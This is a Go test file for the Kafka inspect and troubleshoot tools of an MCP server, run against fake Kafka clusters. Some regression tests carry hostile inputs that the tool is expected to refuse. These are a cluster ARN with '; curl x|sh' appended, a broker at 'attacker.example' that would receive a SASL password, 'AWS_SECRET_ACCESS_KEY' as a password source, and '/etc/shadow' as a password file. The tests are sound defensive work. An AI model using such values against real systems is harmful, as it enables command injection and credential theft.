package tools

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/twmb/franz-go/pkg/kfake"
	"github.com/twmb/franz-go/pkg/kmsg"

	"github.com/stream-mcp/stream-mcp/guidance"
	"github.com/stream-mcp/stream-mcp/internal/config"
	"github.com/stream-mcp/stream-mcp/internal/kafka"
	"github.com/stream-mcp/stream-mcp/internal/kafka/kafkatest"
	"github.com/stream-mcp/stream-mcp/internal/server"
)

func kafkaDeps(t testing.TB, env map[string]string, bindings ...map[string]config.CredentialBinding) ReadDeps {
	t.Helper()
	b, err := guidance.Load()
	if err != nil {
		t.Fatal(err)
	}
	f := kafka.NewFactory(nil, nil, kafka.Env{Getenv: func(k string) string { return env[k] }, ReadFile: os.ReadFile, LookupHost: noDNS}, nil)
	for _, bs := range bindings {
		f.SetCredentialBindings(bs)
	}
	t.Cleanup(f.Close)
	return ReadDeps{Guidance: b, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Kafka: f}
}

// call runs a tool handler with JSON arguments and returns the result and
// its structured content decoded into a map.
func call(t *testing.T, st server.ServerTool, args map[string]any) (*mcp.CallToolResult, map[string]any) {
	t.Helper()
	req := mcp.CallToolRequest{}
	req.Params.Name = st.Tool.Name
	req.Params.Arguments = args
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := st.Handler(ctx, req)
	if err != nil {
		t.Fatalf("Go error (a bug, not a tool error): %v", err)
	}
	var m map[string]any
	if res.StructuredContent != nil {
		raw, err := json.Marshal(res.StructuredContent)
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(raw, &m); err != nil {
			t.Fatal(err)
		}
	}
	return res, m
}

func text(res *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func dig(m map[string]any, path ...string) any {
	var cur any = m
	for _, p := range path {
		mm, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = mm[p]
	}
	return cur
}

func startDemo(t *testing.T) *kafkatest.Demo {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	d, err := kafkatest.StartDemo(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(d.Close)
	return d
}

func TestKafkaInspect(t *testing.T) {
	t.Parallel()
	demo := startDemo(t)
	bs := demo.Bootstrap()
	tool := KafkaInspect(kafkaDeps(t, nil, map[string]config.CredentialBinding{
		"STREAM_MCP_KAFKA_NOPE":  {Brokers: kafka.SplitBootstrap(bs)},
		"STREAM_MCP_KAFKA_CLEAR": {Brokers: kafka.SplitBootstrap(bs)},
	}))
	tests := []struct {
		name    string
		args    map[string]any
		wantErr string
		check   func(t *testing.T, m map[string]any)
	}{
		{name: "overview", args: map[string]any{"bootstrap_servers": bs, "auth": "none", "what": "overview"}, check: func(t *testing.T, m map[string]any) {
			if n := len(dig(m, "overview", "brokers").([]any)); n != 3 {
				t.Errorf("brokers = %d", n)
			}
			if dig(m, "overview", "partitions").(float64) != 6 {
				t.Errorf("partitions = %v", dig(m, "overview", "partitions"))
			}
		}},
		{name: "topics", args: map[string]any{"bootstrap_servers": bs, "what": "topics"}, check: func(t *testing.T, m map[string]any) {
			if dig(m, "total_topics").(float64) != 1 {
				t.Errorf("topics = %v", m["topics"])
			}
		}},
		{name: "topic paged", args: map[string]any{"bootstrap_servers": bs, "what": "topic", "topic": "orders", "limit": 4}, check: func(t *testing.T, m map[string]any) {
			if len(dig(m, "topic", "partition_list").([]any)) != 4 || m["truncated"] != true || dig(m, "next_offset").(float64) != 4 {
				t.Errorf("paging: %v", m)
			}
			if dig(m, "topic", "records_retained").(float64) != 1200 {
				t.Errorf("records = %v", dig(m, "topic", "records_retained"))
			}
		}},
		{name: "stalled group with a window", args: map[string]any{"bootstrap_servers": bs, "what": "group", "group_id": "orders-processor", "sample_seconds": 1}, check: func(t *testing.T, m map[string]any) {
			if s := dig(m, "group", "lag", "status"); s != "STALLED" {
				t.Errorf("status = %v", s)
			}
			if dig(m, "group", "lag", "total_lag_records").(float64) != 600 {
				t.Errorf("total lag = %v", dig(m, "group", "lag", "total_lag_records"))
			}
			worst := dig(m, "group", "lag", "worst").([]any)[0].(map[string]any)
			if ls, ok := worst["lag_seconds"].(float64); !ok || ls < 200 {
				t.Errorf("time lag from the record at the committed offset = %v (records were produced 5 minutes ago)", worst["lag_seconds"])
			}
			if n := len(dig(m, "group", "info", "members").([]any)); n != 1 {
				t.Errorf("members = %d", n)
			}
		}},
		{name: "idle caught-up group", args: map[string]any{"bootstrap_servers": bs, "what": "group", "group_id": "audit-archiver", "sample_seconds": 1}, check: func(t *testing.T, m map[string]any) {
			if s := dig(m, "group", "lag", "status"); s != "IDLE_CAUGHT_UP" {
				t.Errorf("status = %v", s)
			}
		}},
		{name: "groups summary", args: map[string]any{"bootstrap_servers": bs, "what": "groups"}, check: func(t *testing.T, m map[string]any) {
			if dig(m, "groups", "groups").(float64) != 2 || dig(m, "groups", "total_lag_records").(float64) != 600 {
				t.Errorf("groups = %v", m["groups"])
			}
		}},
		{name: "missing topic", args: map[string]any{"bootstrap_servers": bs, "what": "topic", "topic": "nope"}, wantErr: `topic "nope" not found`},
		{name: "missing group", args: map[string]any{"bootstrap_servers": bs, "what": "group", "group_id": "nope", "sample_seconds": 0}, wantErr: `group "nope" not found`},
		{name: "no target", args: map[string]any{"what": "overview"}, wantErr: "exactly one target"},
		{name: "two targets", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "cluster": "x"}, wantErr: "exactly one target"},
		{name: "group without id", args: map[string]any{"what": "group", "bootstrap_servers": bs}, wantErr: "needs group_id"},
		{name: "unknown named cluster", args: map[string]any{"what": "overview", "cluster": "prod"}, wantErr: "not found"},
		{name: "unreachable is a tool error with the probe", args: map[string]any{"what": "overview", "bootstrap_servers": "127.0.0.1:1"}, wantErr: "failed at tcp (refused)"},
		{name: "cluster arn without AWS", args: map[string]any{"what": "overview", "cluster_arn": "arn:aws:kafka:us-east-1:123456789012:cluster/prod/abcd"}, wantErr: "needs the AWS inspectors"},
		{name: "missing secret reference", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_scram_512", "username": "u", "password_env": "STREAM_MCP_KAFKA_NOPE"}, wantErr: "STREAM_MCP_KAFKA_NOPE is empty or unset"},
		// Regression: a call could name any secret of the machine as a SASL password.
		{name: "password_env outside the prefix", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "username": "u", "password_env": "AWS_SECRET_ACCESS_KEY"}, wantErr: "must start with STREAM_MCP_KAFKA_"},
		// Bug (#21.5): a Kafka password went to any broker a call named, in
		// cleartext with sasl_plaintext. Passwords go only to bound brokers.
		{name: "password to an unbound broker", args: map[string]any{"what": "overview", "bootstrap_servers": "attacker.example:9092", "auth": "sasl_plain", "sasl_plaintext": true, "username": "u", "password_env": "STREAM_MCP_KAFKA_X"}, wantErr: "STREAM_MCP_KAFKA_X is not bound to any broker"},
		{name: "bound password, one broker outside the binding", args: map[string]any{"what": "overview", "bootstrap_servers": bs + ",attacker.example:9092", "auth": "sasl_plain", "username": "u", "password_env": "STREAM_MCP_KAFKA_NOPE"}, wantErr: "not bound to broker attacker.example:9092"},
		{name: "bound password over plaintext without allow_sasl_plaintext", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "sasl_plaintext": true, "username": "u", "password_env": "STREAM_MCP_KAFKA_CLEAR"}, wantErr: "allow_sasl_plaintext"},
		{name: "password_file in a call", args: map[string]any{"what": "overview", "bootstrap_servers": bs, "auth": "sasl_plain", "username": "u", "password_file": "/etc/shadow"}, wantErr: "named cluster"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res, m := call(t, tool, tc.args)
			if tc.wantErr != "" {
				if !res.IsError || !strings.Contains(text(res), tc.wantErr) {
					t.Fatalf("want tool error %q, got IsError=%v %q", tc.wantErr, res.IsError, text(res))
				}
				return
			}
			if res.IsError {
				t.Fatalf("tool error: %s", text(res))
			}
			if text(res) == "" {
				t.Error("no text summary")
			}
			tc.check(t, m)
		})
	}
}

func TestKafkaTroubleshootDiagnosis(t *testing.T) {
	t.Parallel()
	demo := startDemo(t)
	sasl := startKfake(t,
		kfake.EnableSASL(), kfake.EnableACLs(),
		kfake.Superuser("SCRAM-SHA-512", "admin", "admin-secret"),
		kfake.User("SCRAM-SHA-512", "esm", "esm-secret",
			kfake.ACL{Resource: kmsg.ACLResourceTypeTopic, Name: "orders", Pattern: kmsg.ACLResourcePatternTypeLiteral, Operation: kmsg.ACLOperationDescribe, Allow: true},
			kfake.ACL{Resource: kmsg.ACLResourceTypeGroup, Name: "esm-group", Pattern: kmsg.ACLResourcePatternTypeLiteral, Operation: kmsg.ACLOperationDescribe, Allow: false}),
		kfake.SeedTopics(2, "orders"))
	// A stopped broker: its listener closes, the bootstrap list still names it.
	stopped := startKfake(t, kfake.SeedTopics(2, "orders"))
	stoppedAddrs := stopped.ListenAddrs()
	if err := stopped.RemoveNode(1); err != nil {
		t.Fatal(err)
	}
	saslBound := config.CredentialBinding{Brokers: sasl.ListenAddrs(), AllowSASLPlaintext: true}
	tool := KafkaTroubleshoot(kafkaDeps(t, map[string]string{"STREAM_MCP_KAFKA_GOOD": "esm-secret", "STREAM_MCP_KAFKA_BAD": "nope"},
		map[string]config.CredentialBinding{"STREAM_MCP_KAFKA_GOOD": saslBound, "STREAM_MCP_KAFKA_BAD": saslBound}))
	scram := func(pwEnv string, extra map[string]any) map[string]any {
		m := map[string]any{"mode": "diagnosis", "bootstrap_servers": strings.Join(sasl.ListenAddrs(), ","), "auth": "sasl_scram_512",
			"sasl_plaintext": true, "username": "esm", "password_env": pwEnv, "sample_seconds": 0}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	tests := []struct {
		name         string
		args         map[string]any
		category     string
		failingCheck string
		findingID    string
		stepHas      string
	}{
		{name: "healthy cluster, stalled group", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": demo.Bootstrap(), "topic": "orders", "group_id": "orders-processor", "sample_seconds": 1},
			category: "consumer_lag", failingCheck: "consumer_group_lag", findingID: "consumer_lag.stalled", stepHas: "group_id=orders-processor"},
		{name: "missing topic", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": demo.Bootstrap(), "topic": "payments", "sample_seconds": 0},
			category: "topic", failingCheck: "topic", findingID: "topic.missing", stepHas: "payments"},
		{name: "refused", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": "127.0.0.1:1"},
			category: "network", failingCheck: "tcp_connect", findingID: "network.refused", stepHas: "security groups"},
		// Bug (#21.10): a broker that accepts TCP and never answers was
		// diagnosed as "authentication" (with auth none).
		{name: "accepts and never answers", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": silentBroker(t), "sample_seconds": 0},
			category: "network", failingCheck: "kafka_response", findingID: "network.no_kafka_response", stepHas: "security groups"},
		{name: "stopped broker", args: map[string]any{"mode": "diagnosis", "bootstrap_servers": strings.Join(stoppedAddrs, ","), "sample_seconds": 0},
			category: "network", failingCheck: "", findingID: "network.refused", stepHas: "security groups"},
		{name: "scram wrong password", args: scram("STREAM_MCP_KAFKA_BAD", nil),
			category: "authentication", failingCheck: "sasl_authentication", findingID: "authentication.auth_rejected", stepHas: "AmazonMSK_"},
		{name: "acl denies the group", args: scram("STREAM_MCP_KAFKA_GOOD", map[string]any{"topic": "orders", "group_id": "esm-group"}),
			category: "authorization", failingCheck: "authorization", findingID: "authorization.denied", stepHas: "--group esm-group"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res, m := call(t, tool, tc.args)
			if res.IsError {
				t.Fatalf("tool error: %s", text(res))
			}
			// The SASL passwords the targets use never appear in any output.
			all, _ := json.Marshal(m)
			for _, secret := range []string{"esm-secret", "nope"} {
				if strings.Contains(string(all), secret) || strings.Contains(text(res), secret) {
					t.Fatalf("output contains the password %q", secret)
				}
			}
			if m["category"] != tc.category {
				t.Fatalf("category = %v, want %s\n%s", m["category"], tc.category, text(res))
			}
			found := false
			for _, c := range m["checks"].([]any) {
				c := c.(map[string]any)
				if c["name"] == tc.failingCheck && c["status"] == "fail" {
					found = true
				}
			}
			if !found && tc.failingCheck != "" {
				t.Errorf("check %s did not fail: %v", tc.failingCheck, m["checks"])
			}
			fs := m["findings"].([]any)
			if len(fs) == 0 || fs[0].(map[string]any)["id"] != tc.findingID {
				t.Fatalf("first finding = %v, want %s", fs, tc.findingID)
			}
			if rem := fs[0].(map[string]any)["remediation"].([]any); len(rem) == 0 {
				t.Error("finding without remediation")
			}
			steps, _ := json.Marshal(m["resolution_steps"])
			if !strings.Contains(string(steps), tc.stepHas) {
				t.Errorf("resolution steps lack %q: %s", tc.stepHas, steps)
			}
			raw, _ := json.Marshal(m)
			if strings.Contains(string(raw), "esm-secret") {
				t.Fatal("secret echoed")
			}
		})
	}
}

func startKfake(t *testing.T, opts ...kfake.Opt) *kfake.Cluster {
	t.Helper()
	c, err := kafkatest.Start(2, opts...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}

func TestKafkaTroubleshootResolutionAndInput(t *testing.T) {
	t.Parallel()
	tool := KafkaTroubleshoot(kafkaDeps(t, nil))
	arn := "arn:aws:kafka:us-east-1:123456789012:cluster/prod/1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d-7"
	tests := []struct {
		name    string
		args    map[string]any
		wantErr string
		stepHas []string
	}{
		{name: "authorization with IAM names exact ARNs", args: map[string]any{"mode": "resolution", "issue_category": "authorization", "cluster_arn": arn, "auth": "iam", "topic": "orders", "group_id": "esm-1"},
			stepHas: []string{"arn:aws:kafka:us-east-1:123456789012:topic/prod/1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d-7/orders", "group/prod/1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d-7/esm-1"}},
		{name: "network with scram port", args: map[string]any{"mode": "resolution", "issue_category": "network", "cluster_arn": arn, "auth": "sasl_scram_512"}, stepHas: []string{"TCP 9096"}},
		{name: "network with iam port", args: map[string]any{"mode": "resolution", "issue_category": "network", "auth": "iam"}, stepHas: []string{"TCP 9098"}},
		{name: "sts unreachable", args: map[string]any{"mode": "resolution", "issue_category": "sts_unreachable", "cluster_arn": arn}, stepHas: []string{"com.amazonaws.us-east-1.sts", "provisioned mode"}},
		{name: "scram acls", args: map[string]any{"mode": "resolution", "issue_category": "authorization", "bootstrap_servers": "b:9096", "auth": "sasl_scram_256", "username": "alice", "topic": "t", "group_id": "g"},
			stepHas: []string{"User:alice", "--topic t", "--group g"}},
		{name: "every category has steps", args: map[string]any{"mode": "resolution", "issue_category": "throttling"}, stepHas: []string{"quota"}},
		{name: "no category", args: map[string]any{"mode": "resolution"}, wantErr: "needs issue_category"},
		// The ARN is echoed into suggested aws commands: it must parse first.
		{name: "hostile cluster arn refused", args: map[string]any{"mode": "resolution", "issue_category": "authentication", "auth": "sasl_scram_512", "cluster_arn": "arn:aws:kafka:us-east-1:123456789012:cluster/a/b; curl x|sh"}, wantErr: "not an MSK cluster ARN"},
		{name: "diagnosis refuses a non-cluster arn", args: map[string]any{"mode": "diagnosis", "cluster_arn": "arn:aws:kafka:us-east-1:123456789012:topic/a/b/c"}, wantErr: "not an MSK cluster ARN"},
		{name: "bad mode", args: map[string]any{"mode": "fix"}, wantErr: "not diagnosis or resolution"},
		{name: "esm needs aws access", args: map[string]any{"mode": "diagnosis", "esm_uuid": "a1b2"}, wantErr: "needs AWS access"},
		{name: "esm plus cluster", args: map[string]any{"mode": "diagnosis", "esm_uuid": "a1b2", "bootstrap_servers": "x:1"}, wantErr: "esm_uuid alone"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res, m := call(t, tool, tc.args)
			if tc.wantErr != "" {
				if !res.IsError || !strings.Contains(text(res), tc.wantErr) {
					t.Fatalf("want tool error %q, got %q", tc.wantErr, text(res))
				}
				return
			}
			if res.IsError {
				t.Fatal(text(res))
			}
			steps, _ := json.Marshal(m["resolution_steps"])
			for _, s := range tc.stepHas {
				if !strings.Contains(string(steps), s) {
					t.Errorf("steps lack %q: %s", s, steps)
				}
			}
		})
	}
}

// noDNS answers every lookup with NXDOMAIN, so no query leaves the machine.
func noDNS(_ context.Context, host string) ([]string, error) {
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// A named cluster from the config file is a target like any other; its
// credentials come from the file's references, so auth in the call is refused.
func TestKafkaNamedCluster(t *testing.T) {
	t.Parallel()
	demo := startDemo(t)
	d := kafkaDeps(t, nil)
	d.Kafka = kafka.NewFactory(map[string]config.Cluster{"local": {BootstrapServers: demo.Bootstrap(), Auth: "none"}}, nil, kafka.Env{LookupHost: noDNS}, nil)
	t.Cleanup(d.Kafka.Close)
	res, m := call(t, KafkaInspect(d), map[string]any{"cluster": "local", "what": "overview"})
	if res.IsError || m["target"] != "cluster local" {
		t.Fatalf("named overview: %v %s", m["target"], text(res))
	}
	res, _ = call(t, KafkaTroubleshoot(d), map[string]any{"mode": "diagnosis", "cluster": "local", "auth": "iam"})
	if !res.IsError || !strings.Contains(text(res), "takes its auth from the config file") {
		t.Fatalf("auth override accepted: %s", text(res))
	}
}

// silentBroker accepts TCP connections and never answers.
func silentBroker(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var conns []net.Conn
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		mu.Lock()
		defer mu.Unlock()
		for _, c := range conns {
			c.Close()
		}
	})
	return ln.Addr().String()
}
